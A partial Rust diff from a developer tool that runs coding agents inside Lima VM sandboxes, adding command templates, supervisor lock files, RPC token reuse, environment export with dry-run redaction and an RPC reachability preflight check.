+fn vm_command(worktree: &Path, command: &[String], what: &str) -> Result<Command, SandboxError> {
+    let config = Config::load(None)?;
+    if !matches!(config.sandbox.backend(), SandboxBackend::Lima) {
+        return Err(anyhow::anyhow!("{} is only supported with the Lima backend", what).into());
+    }
+    let worktree = worktree
+        .canonicalize()
+        .unwrap_or_else(|_| worktree.to_path_buf());
+
+    let vm_name = ensure_lima_vm(&config, &worktree, None)?;
+    let detected = toolchain::resolve_toolchain(&config.sandbox.toolchain(), &worktree);
+    let term_size = crossterm::terminal::size()
+        .ok()
+        .filter(|(cols, rows)| *cols > 0 && *rows > 0);
+
+    let env_file = env_file::load(&config.sandbox, &worktree);
+    let env_exports = lima_env_exports(&config, &worktree, None, term_size, &env_file, &[], false);
+    let ssh_config = guest_ssh_config(&config, &vm_name)?;
+    let (argv, user_command) = lima_exec_args(
+        &config,
+        &vm_name,
+        &worktree,
+        &env_exports,
+        command,
+        &detected,
+        term_size,
+        ssh_config.as_deref(),
+    );
+
+    debug!(vm = %vm_name, command = %user_command, "running command in VM");
+    let mut cmd = Command::new(&argv[0]);
+    cmd.args(&argv[1..]);
+    lima::apply_lima_home(&mut cmd);
+    Ok(cmd)
+}
+
+/// Guest command line that starts the user's shell, named after the host's
+/// `$SHELL`: the host path may not exist in the VM, so it's looked up on
+/// the guest's `PATH`, falling back to bash when it isn't installed there.
+fn guest_shell_command(host_shell: Option<&str>) -> String {
+    let name = host_shell
+        .and_then(|shell| Path::new(shell).file_name())
+        .and_then(|name| name.to_str())
+        .filter(|name| {
+            name.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
+        })
+        .unwrap_or("bash");
+    if name == "bash" {
+        "exec bash".to_string()
+    } else {
+        format!("command -v {name} >/dev/null 2>&1 && exec {name}; exec bash")
+    }
+}
+
+/// Placeholders recognized in `commands` templates.
+const COMMAND_PLACEHOLDERS: &[&str] = &["worktree", "branch", "prompt_file"];
+
+/// Expand the `commands.<name>` template from config into the command run
+/// by `sandbox run --template <name>`.
+pub fn command_from_template(
+    name: &str,
+    worktree: &Path,
+    worktree_root: Option<&Path>,
+    prompt_file: Option<&Path>,
+) -> Result<Vec<String>> {
+    let config = Config::load(None)?;
+    let Some(template) = config.commands.get(name) else {
+        let known: Vec<&str> = config.commands.keys().map(String::as_str).collect();
+        bail!(
+            "No command template named '{}' (configured: {})",
+            name,
+            if known.is_empty() {
+                "none".to_string()
+            } else {
+                known.join(", ")
+            }
+        );
+    };
+
+    let worktree = worktree
+        .canonicalize()
+        .unwrap_or_else(|_| worktree.to_path_buf());
+    let root = worktree_root
+        .map(|p| p.canonicalize().unwrap_or_else(|_| p.to_path_buf()))
+        .unwrap_or_else(|| worktree.clone());
+    let command = render_command_template(
+        template,
+        config.sandbox.backend().shell_quoting(),
+        &worktree,
+        &root,
+        prompt_file,
+    )
+    .with_context(|| format!("Failed to expand command template '{}'", name))?;
+    Ok(vec![command])
+}
+
+/// Read a prompt from stdin into `.workmux/` in the worktree, where the
+/// sandbox can read it as a regular file. The caller removes it afterwards.
+pub fn prompt_from_stdin(worktree: &Path, worktree_root: Option<&Path>) -> Result<PathBuf> {
+    use std::io::Read;
+
+    let mut prompt = String::new();
+    std::io::stdin()
+        .read_to_string(&mut prompt)
+        .context("Failed to read the prompt from stdin")?;
+    if prompt.trim().is_empty() {
+        bail!("--prompt-stdin was given but stdin is empty");
+    }
+
+    let root = worktree_root.unwrap_or(worktree);
+    let root = root.canonicalize().unwrap_or_else(|_| root.to_path_buf());
+    crate::workflow::write_prompt_file(
+        Some(&root),
+        &format!("stdin-{}", std::process::id()),
+        &crate::prompt::Prompt::Inline(prompt),
+    )
+}
+
+/// Replace `{prompt_file}` in a `sandbox run` command with `path`. A single
+/// argument is a shell string, so the path is quoted there; separate
+/// arguments are quoted later as a whole.
+pub fn substitute_prompt_file(command: Vec<String>, path: &Path) -> Result<Vec<String>> {
+    if !command.iter().any(|arg| arg.contains("{prompt_file}")) {
+        bail!("--prompt-stdin needs {{prompt_file}} in the command to pass the prompt to");
+    }
+    let path = path.to_string_lossy();
+    let value = match command.len() {
+        1 => crate::shell::shell_quote(&path),
+        _ => path.into_owned(),
+    };
+    Ok(command
+        .into_iter()
+        .map(|arg| arg.replace("{prompt_file}", &value))
+        .collect())
+}
+
+/// Substitute `{worktree}`, `{branch}` and `{prompt_file}` in a command
+/// template. Values are quoted for the sandbox shell, so templates don't
+/// need to quote them. The branch is only looked up when used.
+///
+/// `prompt_file` overrides the branch's prompt file (`--prompt-stdin`).
+fn render_command_template(
+    template: &str,
+    quoting: &dyn ShellQuoting,
+    worktree: &Path,
+    worktree_root: &Path,
+    prompt_file: Option<&Path>,
+) -> Result<String> {
+    let branch = || {
+        crate::git::get_current_branch_in(worktree_root)
+            .ok()
+            .filter(|b| !b.is_empty())
+            .with_context(|| format!("{} is not on a branch", worktree_root.display()))
+    };
+
+    crate::config::substitute_placeholders(template, |placeholder| {
+        let value = match placeholder {
+            "worktree" => worktree.to_string_lossy().into_owned(),
+            "branch" => branch()?,
+            "prompt_file" => {
+                let path = match prompt_file {
+                    Some(path) => path.to_path_buf(),
+                    None => crate::workflow::prompt_file_path(worktree_root, &branch()?),
+                };
+                if !path.exists() {
+                    bail!(
+                        "No prompt file at {} (one is written by `workmux add --prompt`)",
+                        path.display()
+                    );
+                }
+                path.to_string_lossy().into_owned()
+            }
+            _ => bail!(
+                "Unknown placeholder '{{{}}}' (expected one of: {})",
+                placeholder,
+                COMMAND_PLACEHOLDERS
+                    .iter()
+                    .map(|p| format!("{{{}}}", p))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            ),
+        };
+        Ok(quoting.quote(&value))
+    })
+}
+
+/// Print the agent's exit status and block until a key is pressed.
+///
+/// Falls back to waiting for Enter when the terminal can't be put into
+/// raw mode (e.g. stdin is not a tty).
+fn wait_for_keypress(message: &str) {
+    use crossterm::event::{self, Event, KeyEventKind};
+    use crossterm::terminal::{disable_raw_mode, enable_raw_mode};
+
+    println!();
+    println!("{}", message);
+    println!("Press any key to close this pane...");
+
+    if enable_raw_mode().is_ok() {
+        loop {
+            match event::read() {
+                Ok(Event::Key(key)) if key.kind == KeyEventKind::Press => break,
+                Ok(_) => continue,
+                Err(e) => {
+                    warn!(error = %e, "failed to read key event");
+                    break;
+                }
+            }
+        }
+        let _ = disable_raw_mode();
+    } else {
+        let mut line = String::new();
+        let _ = std::io::stdin().read_line(&mut line);
+    }
+}
+
+/// Guard that records the supervisor in the state store while it runs,
+/// so `workmux sandbox info` can report its RPC port.
+struct SandboxInfoGuard {
+    handle: String,
+    pid: u32,
+}
+
+impl SandboxInfoGuard {
+    fn register(worktree_root: &Path, backend: &str, ctx: &RpcContext, rpc_port: u16) -> Self {
+        let handle = worktree_handle(worktree_root);
+        let pid = std::process::id();
+        let info = SandboxInfo {
+            pid,
+            backend: backend.to_string(),
+            pane_id: ctx.pane_id.clone(),
+            rpc_port,
+            worktree: ctx.worktree_path.clone(),
+            started_ts: SystemTime::now()
+                .duration_since(UNIX_EPOCH)
+                .map(|d| d.as_secs())
+                .unwrap_or(0),
+            agent_status: None,
+        };
+        if let Ok(store) = StateStore::new()
+            && let Err(e) = store.register_sandbox(&handle, &info)
+        {
+            warn!(error = %e, "failed to register sandbox state");
+        }
+        Self { handle, pid }
+    }
+}
+
+impl Drop for SandboxInfoGuard {
+    fn drop(&mut self) {
+        if let Ok(store) = StateStore::new() {
+            store.unregister_sandbox(&self.handle, self.pid);
+        }
+    }
+}
+
+/// Lock file marking the worktree's active supervisor.
+///
+/// Lives at `<worktree>/.workmux/sandbox.lock` and holds the owner's pid and
+/// pane id. A lock whose pid is no longer alive was left by a crashed run
+/// and is reclaimed. With `force` the lock is taken over from a live owner,
+/// which is how panes created by workmux itself (`open -n`, sandboxed shell
+/// panes) share a worktree.
+struct SupervisorLock {
+    path: PathBuf,
+    pid: u32,
+}
+
+impl SupervisorLock {
+    const FILE: &'static str = ".workmux/sandbox.lock";
+
+    fn acquire(worktree_root: &Path, pane_id: Option<&str>, force: bool) -> Result<Self> {
+        use std::io::Write;
+
+        let path = worktree_root.join(Self::FILE);
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)
+                .with_context(|| format!("Failed to create {}", dir.display()))?;
+        }
+        let pid = std::process::id();
+        let contents = format!("{}\n{}\n", pid, pane_id.unwrap_or(""));
+
+        loop {
+            match std::fs::OpenOptions::new()
+                .write(true)
+                .create_new(true)
+                .open(&path)
+            {
+                Ok(mut file) => {
+                    file.write_all(contents.as_bytes())?;
+                    return Ok(Self { path, pid });
+                }
+                Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {}
+                Err(e) => {
+                    return Err(e).with_context(|| format!("Failed to create {}", path.display()));
+                }
+            }
+
+            match Self::owner(&path) {
+                Some((owner, pane))
+                    if owner != pid && crate::state::store::process_alive(owner) =>
+                {
+                    if !force {
+                        let pane = if pane.is_empty() {
+                            "-".to_string()
+                        } else {
+                            pane
+                        };
+                        bail!(
+                            "A sandbox supervisor is already running for {} (pid {}, pane {}); pass --force to start another",
+                            worktree_root.display(),
+                            owner,
+                            pane
+                        );
+                    }
+                    warn!(owner, "taking over sandbox lock from a running supervisor");
+                }
+                Some((owner, _)) => debug!(owner, "reclaiming stale sandbox lock"),
+                None => debug!("replacing unreadable sandbox lock"),
+            }
+            // Losing a race to another supervisor here just means the next
+            // create_new attempt sees its lock instead.
+            if let Err(e) = std::fs::remove_file(&path)
+                && e.kind() != std::io::ErrorKind::NotFound
+            {
+                return Err(e).with_context(|| format!("Failed to remove {}", path.display()));
+            }
+        }
+    }
+
+    /// Pid and pane id recorded in a lock file.
+    fn owner(path: &Path) -> Option<(u32, String)> {
+        let contents = std::fs::read_to_string(path).ok()?;
+        let mut lines = contents.lines();
+        let pid = lines.next()?.trim().parse().ok()?;
+        Some((pid, lines.next().unwrap_or("").trim().to_string()))
+    }
+}
+
+impl Drop for SupervisorLock {
+    fn drop(&mut self) {
+        // Leave the lock alone if another supervisor took it over
+        if Self::owner(&self.path).is_some_and(|(owner, _)| owner == self.pid) {
+            let _ = std::fs::remove_file(&self.path);
         }
     }
 }
 
+/// Worktree handle (directory name) used to key sandbox state.
+fn worktree_handle(worktree_root: &Path) -> String {
+    worktree_root
+        .file_name()
+        .and_then(|n| n.to_str())
+        .unwrap_or("unknown")
+        .to_string()
+}
+
 /// Start RPC server and return (server, port, token, context).
 /// Shared setup between Lima and Container backends.
+///
+/// The token and port are saved in the worktree and reused by the next
+/// supervisor (see `sandbox.rpc_token_ttl`), so a restart doesn't strand
+/// guests holding the old credentials. A `--token-file` token replaces the
+/// saved one.
 fn start_rpc(
+    config: &Config,
     worktree: &Path,
+    worktree_root: &Path,
     allowed_commands: HashSet<String>,
     detected_toolchain: toolchain::DetectedToolchain,
-    allow_unsandboxed_host_exec: bool,
+    supervisor: &SupervisorContext,
 ) -> Result<(RpcServer, u16, String, Arc<RpcContext>)> {
-    let rpc_server = RpcServer::bind()?;
-    let rpc_port = rpc_server.port();
-    let rpc_token = generate_token();
-    info!(port = rpc_port, "RPC server listening");
+    let events = supervisor.events;
+    let span = info_span!("rpc_bind", rpc_port = field::Empty).entered();
+    let mut session = rpc::load_or_generate_token(
+        worktree_root,
+        config.sandbox.rpc_token_ttl()?,
+        config.sandbox.token_bytes()?,
+    );
+    if let Some(token) = &supervisor.rpc_token {
+        session.token = token.clone();
+    }
+    let port_range = config.sandbox.rpc_port_range()?;
+    let bind_addr = config.sandbox.rpc_bind_addr()?;
+    if bind_addr.is_loopback()
+        && cfg!(target_os = "linux")
+        && config.sandbox.backend() == SandboxBackend::Container
+    {
+        warn!(
+            %bind_addr,
+            "sandbox.rpc_bind is loopback, which containers on Linux can't reach; \
+             host-exec will fail unless the runtime forwards host loopback"
+        );
+    }
 
-    let mux = multiplexer::create_backend(multiplexer::detect_backend());
-    let pane_id = mux.current_pane_id().unwrap_or_default();
+    // Try the previous port first; it may be taken by now
+    let previous = Some(session.port)
+        .filter(|&port| port != 0 && port_range.as_ref().is_none_or(|r| r.contains(&port)))
+        .and_then(|port| RpcServer::bind_on(bind_addr, port..=port).ok());
+    let rpc_server = match (previous, port_range) {
+        (Some(server), _) => server,
+        (None, Some(range)) => RpcServer::bind_on(bind_addr, range)?,
+        (None, None) => RpcServer::bind(bind_addr)?,
+    }
+    .with_max_connections(config.sandbox.rpc_max_conns())
+    .with_http(config.sandbox.rpc_http.unwrap_or(false));
+    let allow_unsandboxed_host_exec = config.sandbox.allow_unsandboxed_host_exec();
+    let rpc_port = rpc_server.port();
+    span.record("rpc_port", rpc_port);
+    info!(addr = %rpc_server.local_addr()?, "RPC server listening");
+    drop(span);
+    Span::current().record("rpc_port", rpc_port);
+    events::emit(events, Event::RpcListening { port: rpc_port });
+
+    session.port = rpc_port;
+    session.bind = Some(bind_addr);
+    if let Err(e) = rpc::save_session(worktree_root, &session) {
+        warn!(error = %e, "failed to save RPC session; a restart will use a new token");
+    }
+    let rpc_token = session.token;
 
+    let mux = Arc::clone(&supervisor.mux);
     let ctx = Arc::new(RpcContext {
-        pane_id,
+        pane_id: supervisor.pane_id.clone().unwrap_or_default(),
         worktree_path: worktree.to_path_buf(),
         mux,
         token: rpc_token.clone(),
         allowed_commands,
         detected_toolchain,
         allow_unsandboxed_host_exec,
+        events: events.cloned(),
+        stderr: supervisor.stderr.clone(),
+        output: supervisor.output.clone(),
+        status: Mutex::default(),
+        requests: Default::default(),
     });
 
     Ok((rpc_server, rpc_port, rpc_token, ctx))
@@ -147,12 +1424,26 @@ fn git_user_config_envs(worktree_dir: &Path) -> Vec<(String, String)> {
     envs
 }
 
-fn run_lima(config: &Config, worktree: &Path, command: &[String]) -> Result<i32> {
+#[allow(clippy::too_many_arguments)]
+fn run_lima(
+    config: &Config,
+    worktree: &Path,
+    worktree_root: &Path,
+    command: &[String],
+    snapshot_on_exit: Option<Option<String>>,
+    output: &PtyOutput,
+    timeout: Option<Duration>,
+    vm_name: Option<&str>,
+    supervisor: &SupervisorContext,
+) -> Result<i32, SandboxError> {
+    let events = supervisor.events;
     info!(worktree = %worktree.display(), "sandbox supervisor starting (lima)");
 
-    // Ensure Lima VM is running
-    let vm_name = lima::ensure_vm_running(config, worktree)?;
-    info!(vm_name = %vm_name, "Lima VM ready");
+    let vm_name = ensure_lima_vm(config, worktree, vm_name)?;
+    if let Some(events) = events {
+        events.set_vm_name(&vm_name);
+        events.emit(Event::VmReady);
+    }
 
     let agent = crate::multiplexer::agent::resolve_profile(config.agent.as_deref()).name();
 
@@ -177,27 +1468,183 @@ fn run_lima(config: &Config, worktree: &Path, command: &[String]) -> Result<i32>
     info!(commands = ?host_commands, "created host-exec shims");
 
     let (rpc_server, rpc_port, rpc_token, ctx) = start_rpc(
+        config,
         worktree,
+        worktree_root,
         allowed_commands,
         detected.clone(),
-        config.sandbox.allow_unsandboxed_host_exec(),
-    )?;
-    let _rpc_handle = rpc_server.spawn(ctx);
-
-    // Build limactl shell command
-    let mut lima_cmd = Command::new("limactl");
-    lima_cmd
-        .arg("shell")
-        .args(["--workdir", &worktree.to_string_lossy()])
-        .arg(&vm_name);
-
-    let mut env_exports = vec![
-        r#"PATH="$HOME/.workmux-state/shims/bin:$HOME/.local/bin:/nix/var/nix/profiles/default/bin:$PATH""#.to_string(),
-        "WM_SANDBOX_GUEST=1".to_string(),
-        "WM_RPC_HOST=host.lima.internal".to_string(),
-        format!("WM_RPC_PORT={}", rpc_port),
-        format!("WM_RPC_TOKEN={}", rpc_token),
-    ];
+        supervisor,
+    )
+    .map_err(SandboxError::RpcBind)?;
+    let term_size = resolve_term_size(ctx.mux.as_ref(), &ctx.pane_id);
+    let _info_guard = SandboxInfoGuard::register(worktree_root, "lima", &ctx, rpc_port);
+    let rpc_handle = rpc_server.spawn(ctx);
+
+    if config.sandbox.preflight() {
+        preflight_rpc(&vm_name, worktree, rpc_port, &rpc_token)?;
+    }
+
+    let env_file = env_file::load(&config.sandbox, worktree_root);
+    let env_exports = lima_env_exports(
+        config,
+        worktree,
+        Some((&rpc_port.to_string(), &rpc_token)),
+        term_size,
+        &env_file,
+        supervisor.env,
+        false,
+    );
+    let ssh_config = guest_ssh_config(config, &vm_name)?;
+    let (argv, user_command) = lima_exec_args(
+        config,
+        &vm_name,
+        worktree,
+        &env_exports,
+        command,
+        &detected,
+        term_size,
+        ssh_config.as_deref(),
+    );
+
+    let mut lima_cmd = Command::new(&argv[0]);
+    lima_cmd.args(&argv[1..]);
+    lima::apply_lima_home(&mut lima_cmd);
+
+    debug!(vm = %vm_name, command = %user_command, "spawning limactl shell");
+    let exit_code = supervise_agent(&mut lima_cmd, &user_command, output, timeout, supervisor)
+        .map_err(|e| {
+            SandboxError::LimaSpawn(match e.downcast::<std::io::Error>() {
+                Ok(err) => lima::limactl_spawn_error(err, "Failed to execute limactl shell"),
+                Err(e) => e.context("Failed to execute limactl shell"),
+            })
+        })?;
+    rpc_handle.shutdown();
+    let Some(exit_code) = exit_code else {
+        return Err(timed_out(timeout));
+    };
+
+    if let Some(tag) = snapshot_on_exit {
+        let tag = tag.unwrap_or_else(|| {
+            let now = SystemTime::now()
+                .duration_since(UNIX_EPOCH)
+                .map(|d| d.as_secs())
+                .unwrap_or(0);
+            lima::snapshot_tag(&worktree_handle(worktree_root), now)
+        });
+        // A failed snapshot shouldn't mask the agent's own exit status
+        match lima::LimaInstance::create_snapshot(&vm_name, &tag) {
+            Ok(()) => {
+                info!(vm_name = %vm_name, tag = %tag, "created VM snapshot");
+                eprintln!("Saved snapshot '{}' of VM {}", tag, vm_name);
+            }
+            Err(e) => {
+                warn!(vm_name = %vm_name, tag = %tag, error = %e, "failed to snapshot VM");
+                eprintln!("workmux: failed to snapshot VM: {:#}", e);
+            }
+        }
+    }
+
+    Ok(exit_code)
+}
+
+/// Print the `limactl shell` invocation `run_lima` would execute, without
+/// booting the VM, starting the RPC server or running anything.
+///
+/// The RPC port and token are not allocated yet, so placeholders are shown.
+/// Passthrough, env file and `--env` values are redacted since they
+/// commonly hold API keys.
+fn dry_run_lima(
+    config: &Config,
+    worktree: &Path,
+    command: &[String],
+    vm_name: Option<&str>,
+    env: &[(String, String)],
+) -> Result<()> {
+    let vm_name = match vm_name {
+        Some(name) => {
+            lima::validate_instance_name(name)?;
+            name.to_string()
+        }
+        None => lima::instance_name(worktree, config.sandbox.lima.isolation(), config)?,
+    };
+    let detected = toolchain::resolve_toolchain(&config.sandbox.toolchain(), worktree);
+
+    let mux = multiplexer::current();
+    let pane_id = mux.current_pane_id().unwrap_or_default();
+    let term_size = resolve_term_size(mux.as_ref(), &pane_id);
+
+    let env_file = env_file::load(&config.sandbox, worktree);
+    let env_exports = lima_env_exports(
+        config,
+        worktree,
+        Some(("<rpc-port>", "<redacted>")),
+        term_size,
+        &env_file,
+        env,
+        true,
+    );
+    // The VM may not exist yet, so its SSH config may not either
+    let ssh_config = guest_ssh_config(config, &vm_name)
+        .unwrap_or_else(|_| Some(PathBuf::from(format!("<lima-dir>/{vm_name}/ssh.config"))));
+    let (argv, _) = lima_exec_args(
+        config,
+        &vm_name,
+        worktree,
+        &env_exports,
+        command,
+        &detected,
+        term_size,
+        ssh_config.as_deref(),
+    );
+
+    let args: Vec<String> = argv.iter().map(|a| crate::shell::shell_quote(a)).collect();
+    println!("{}", args.join(" "));
+    Ok(())
+}
+
+/// Environment exported inside the Lima guest before running the agent.
+///
+/// `rpc` is the RPC server's port and token; without one (`workmux exec`)
+/// the `WM_RPC_*` variables and the host-exec shims are left out, since
+/// neither works without a server.
+///
+/// `env_file` entries come first so the variables workmux sets itself win;
+/// `extra_env` (`--env`) comes last so it wins over everything configured.
+/// With `redact_passthrough`, values of `sandbox.env_passthrough`, env file
+/// and `--env` variables are replaced with `<redacted>` (used for
+/// `--dry-run` output).
+fn lima_env_exports(
+    config: &Config,
+    worktree: &Path,
+    rpc: Option<(&str, &str)>,
+    term_size: Option<(u16, u16)>,
+    env_file: &[(String, String)],
+    extra_env: &[(String, String)],
+    redact_passthrough: bool,
+) -> Vec<String> {
+    let export = |(key, val): &(String, String)| {
+        if redact_passthrough {
+            format!("{}=<redacted>", key)
+        } else {
+            format!("{}={}", key, crate::shell::shell_quote(val))
+        }
+    };
+    let mut env_exports: Vec<String> = env_file.iter().map(export).collect();
+
+    if let Some((rpc_port, rpc_token)) = rpc {
+        env_exports.extend([
+            r#"PATH="$HOME/.workmux-state/shims/bin:$HOME/.local/bin:/nix/var/nix/profiles/default/bin:$PATH""#.to_string(),
+            "WM_SANDBOX_GUEST=1".to_string(),
+            "WM_RPC_HOST=host.lima.internal".to_string(),
+            format!("WM_RPC_PORT={}", rpc_port),
+            format!("WM_RPC_TOKEN={}", rpc_token),
+        ]);
+    } else {
+        env_exports.extend([
+            r#"PATH="$HOME/.local/bin:/nix/var/nix/profiles/default/bin:$PATH""#.to_string(),
+            "WM_SANDBOX_GUEST=1".to_string(),
+        ]);
+    }
 
     for term_var in ["TERM", "COLORTERM"] {
         if let Ok(val) = std::env::var(term_var) {
@@ -205,9 +1652,20 @@ fn run_lima(config: &Config, worktree: &Path, command: &[String]) -> Result<i32>
         }
     }
 
+    // limactl shell doesn't propagate the pane size, so TUI agents would
+    // otherwise render at the SSH default width
+    if let Some((cols, rows)) = term_size {
+        env_exports.push(format!("COLUMNS={}", cols));
+        env_exports.push(format!("LINES={}", rows));
+    }
+
     for env_var in config.sandbox.env_passthrough() {
         if let Ok(val) = std::env::var(env_var) {
-            env_exports.push(format!("{}={}", env_var, val));
+            if redact_passthrough {
+                env_exports.push(format!("{}=<redacted>", env_var));
+            } else {
+                env_exports.push(format!("{}={}", env_var, crate::shell::shell_quote(&val)));
+            }
         }
     }
 
@@ -216,29 +1674,258 @@ fn run_lima(config: &Config, worktree: &Path, command: &[String]) -> Result<i32>
         env_exports.push(format!("{}='{}'", key, crate::shell::shell_escape(&val)));
     }
 
+    env_exports.extend(extra_env.iter().map(export));
+    env_exports
+}
+
+/// Parse a `sandbox run --env KEY=VALUE` argument. Usable as a clap value
+/// parser.
+///
+/// `WM_*` names are refused: they carry the RPC credentials and guest
+/// markers workmux sets itself.
+pub fn parse_env_assignment(s: &str) -> Result<(String, String), String> {
+    let Some((key, value)) = s.split_once('=') else {
+        return Err(format!("invalid --env '{}': expected KEY=VALUE", s));
+    };
+    if !env_file::is_env_name(key) {
+        return Err(format!(
+            "invalid --env '{}': '{}' is not a valid variable name",
+            s, key
+        ));
+    }
+    if key.starts_with("WM_") {
+        return Err(format!(
+            "invalid --env '{}': WM_* variables are reserved for workmux",
+            s
+        ));
+    }
+    Ok((key.to_string(), value.to_string()))
+}
+
+/// How long the preflight probe may take to reach the RPC server.
+const PREFLIGHT_TIMEOUT_SECS: u32 = 15;
+
+/// Shell command run in the VM to check it can reach the RPC server: the
+/// guest's `workmux sandbox ping`, bounded by `timeout`.
+fn rpc_probe_command(rpc_port: u16, rpc_token: &str) -> String {
+    format!(
+        r#"export PATH="$HOME/.workmux-state/shims/bin:$HOME/.local/bin:/nix/var/nix/profiles/default/bin:$PATH"; \
+         WM_SANDBOX_GUEST=1 WM_RPC_HOST=host.lima.internal WM_RPC_PORT={} WM_RPC_TOKEN={} \
+         timeout {} workmux sandbox ping"#,
+        rpc_port, rpc_token, PREFLIGHT_TIMEOUT_SECS
+    )
+}
+
+/// Check from inside the VM that the RPC server accepts the token and
+/// answers a ping, so networking problems fail here instead of confusing
+/// the agent later. A VM without `workmux` (or `timeout`) can't be checked
+/// and is let through with a warning.
+fn preflight_rpc(
+    vm_name: &str,
+    worktree: &Path,
+    rpc_port: u16,
+    rpc_token: &str,
+) -> Result<(), SandboxError> {
+    debug!(vm = %vm_name, port = rpc_port, "probing RPC reachability from the guest");
+    let output = lima::limactl()
+        .args(lima_shell_args(
+            vm_name,
+            worktree,
+            &rpc_probe_command(rpc_port, rpc_token),
+        ))
+        .stdin(Stdio::null())
+        .output()
+        .map_err(|e| {
+            SandboxError::LimaSpawn(lima::limactl_spawn_error(
+                e,
+                "Failed to execute limactl shell",
+            ))
+        })?;
+
+    match output.status.code() {
+        Some(0) => {
+            info!(port = rpc_port, "RPC reachable from the guest");
+            Ok(())
+        }
+        Some(127) => {
+            warn!(vm = %vm_name, "workmux not found in the VM; skipping the RPC preflight");
+            Ok(())
+        }
+        code => {
+            let reason = match code {
+                Some(124) => format!("no answer within {}s", PREFLIGHT_TIMEOUT_SECS),
+                _ => String::from_utf8_lossy(&output.stderr).trim().to_string(),
+            };
+            Err(SandboxError::RpcUnreachable(anyhow::anyhow!(
+                "The VM couldn't reach host.lima.internal:{} ({}). Check that the host \
+                 firewall allows connections from the VM on that port (see \
+                 sandbox.rpc_ports), or set sandbox.preflight: false to skip this check",
+                rpc_port,
+                reason
+            )))
+        }
+    }
+}
+
+/// Start the worktree's VM (or the one named with `--vm-name`) and wait until
+/// it accepts shell sessions. An explicitly named VM is only started, never
+/// created or reconfigured.
+fn ensure_lima_vm(
+    config: &Config,
+    worktree: &Path,
+    vm_name: Option<&str>,
+) -> Result<String, SandboxError> {
+    let span = info_span!("vm_start", vm_name = field::Empty).entered();
+    let vm_name = match vm_name {
+        Some(name) => lima::ensure_named_vm_running(config, name).map(|()| name.to_string()),
+        None => lima::ensure_vm_running(config, worktree),
+    }
+    .and_then(|vm_name| lima::wait_for_ssh(&vm_name).map(|()| vm_name))
+    .map_err(SandboxError::VmStart)?;
+    span.record("vm_name", vm_name.as_str());
+    info!(vm_name = %vm_name, "Lima VM ready");
+    drop(span);
+    Span::current().record("vm_name", vm_name.as_str());
+    Ok(vm_name)
+}
+
+/// The VM's SSH config when `sandbox.lima.login_shell` is off, so the agent
+/// can be started over plain `ssh` instead of `limactl shell`; `None` for
+/// the default login shell.
+fn guest_ssh_config(config: &Config, vm_name: &str) -> Result<Option<PathBuf>, SandboxError> {
+    if config.sandbox.lima.login_shell() {
+        return Ok(None);
+    }
+    lima::LimaInstance::ssh_config(vm_name)
+        .map(Some)
+        .map_err(SandboxError::LimaSpawn)
+}
+
+/// Command line (program first) that runs `command` in the VM from
+/// `worktree`, with `env_exports` set and the toolchain wrapper applied.
+/// Also returns the user command line, for logging.
+///
+/// `limactl shell` always starts the guest's login shell, which sources
+/// profiles; with `ssh_config` the command runs under `sh -c` over plain
+/// `ssh` instead (see [`plain_shell_args`]).
+#[allow(clippy::too_many_arguments)]
+fn lima_exec_args(
+    config: &Config,
+    vm_name: &str,
+    worktree: &Path,
+    env_exports: &[String],
+    command: &[String],
+    detected: &toolchain::DetectedToolchain,
+    term_size: Option<(u16, u16)>,
+    ssh_config: Option<&Path>,
+) -> (Vec<String>, String) {
+    let user_command = user_command_line(config.sandbox.backend().shell_quoting(), command);
+    let full_command = build_shell_command(env_exports, &user_command, detected, term_size);
+    let argv = match ssh_config {
+        None => std::iter::once(lima::limactl_program())
+            .chain(lima_shell_args(vm_name, worktree, &full_command))
+            .collect(),
+        Some(ssh_config) => plain_shell_args(
+            vm_name,
+            worktree,
+            &full_command,
+            ssh_config,
+            std::io::stdin().is_terminal(),
+        ),
+    };
+    (argv, user_command)
+}
+
+/// `ssh` command line that runs `full_command` under a non-login `sh -c`
+/// in the VM from `worktree`. The remote side gets a single argument, quoted
+/// the same way as for `limactl shell`, so the command reaches `sh` intact.
+fn plain_shell_args(
+    vm_name: &str,
+    worktree: &Path,
+    full_command: &str,
+    ssh_config: &Path,
+    tty: bool,
+) -> Vec<String> {
+    let script = format!(
+        "cd {} && exec sh -c {}",
+        crate::shell::shell_quote(&worktree.to_string_lossy()),
+        crate::shell::shell_quote(full_command)
+    );
+    vec![
+        "ssh".to_string(),
+        "-F".to_string(),
+        ssh_config.to_string_lossy().into_owned(),
+        if tty { "-t" } else { "-T" }.to_string(),
+        format!("lima-{vm_name}"),
+        "--".to_string(),
+        script,
+    ]
+}
+
+/// Arguments to `limactl` that run `full_command` in the VM from `worktree`.
+fn lima_shell_args(vm_name: &str, worktree: &Path, full_command: &str) -> Vec<String> {
+    vec![
+        "shell".to_string(),
+        "--workdir".to_string(),
+        worktree.to_string_lossy().into_owned(),
+        vm_name.to_string(),
+        "--".to_string(),
+        "eval".to_string(),
+        full_command.to_string(),
+    ]
+}
+
+/// Resolve the size of the supervisor pane as (columns, rows).
+///
+/// Prefers the multiplexer's view of the pane, falling back to the size of
+/// the controlling terminal when the backend can't report it.
+fn resolve_term_size(mux: &dyn multiplexer::Multiplexer, pane_id: &str) -> Option<(u16, u16)> {
+    let size = if pane_id.is_empty() {
+        None
+    } else {
+        mux.pane_size(pane_id)
+    };
+    size.or_else(|| crossterm::terminal::size().ok())
+        .filter(|(cols, rows)| *cols > 0 && *rows > 0)
+}
+
+/// Turn the supervisor's trailing arguments into the shell command line run
+/// in the sandbox.
+///
+/// A single argument is already a shell command line (that's how
+/// `wrap_for_lima`/`wrap_for_container` pass it) and is used verbatim.
+/// Several arguments are an argv, e.g. from `workmux sandbox agent -- ...`,
+/// and are quoted individually so spaces, newlines and `$(...)` in any of
+/// them reach the program unchanged.
+fn user_command_line(quoting: &dyn ShellQuoting, command: &[String]) -> String {
+    match command {
+        [single] => single.clone(),
+        args => quoting.command_line(args),
+    }
+}
+
+/// Compose the shell command string passed to `limactl shell -- eval`.
+///
+/// Exports the given environment, resizes the guest pty to match the host
+/// pane (when known), then runs the user command through the toolchain wrapper.
+fn build_shell_command(
+    env_exports: &[String],
+    user_command: &str,
+    detected: &toolchain::DetectedToolchain,
+    term_size: Option<(u16, u16)>,
+) -> String {
     let exports: String = env_exports
         .iter()
         .map(|e| format!("export {e}"))
         .collect::<Vec<_>>()
         .join("; ");
-    let user_command = command.join(" ");
 
